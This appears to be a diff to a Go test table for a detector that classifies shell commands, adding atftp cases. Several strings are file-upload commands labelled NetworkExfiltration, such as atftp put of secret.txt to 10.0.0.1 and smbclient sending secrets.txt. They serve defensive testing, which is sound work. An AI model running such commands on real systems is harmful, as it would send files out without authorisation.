@@ -72,6 +72,10 @@ func TestTransferCommandsOnStandardInput(t *testing.T) {
 		{"sftp user@host <<< 'put report.pdf'", NetworkExfiltration},
 		{"lftp ftp://files.example <<EOF\nmirror -R ./site /www\nEOF", NetworkExfiltration},
 		{"smbclient //host/share -U bob <<EOF\nsend secrets.txt\nEOF", NetworkExfiltration},
+		// atftp(1)'s own options for the same put.
+		{"atftp --put -l secret.txt -r s.txt 10.0.0.1", NetworkExfiltration},
+		{"atftp --put --local-file secret.txt --remote-file s.txt 10.0.0.1", NetworkExfiltration},
+		{"atftp --get -r firmware.bin -l firmware.bin 10.0.0.1", ""},
 		// Everyday: downloads and listings.
 		{"tftp 192.168.1.10 << EOF\nbinary\nget firmware.bin\nquit\nEOF", ""},
 		{"sftp user@host <<< 'ls -l'", ""},
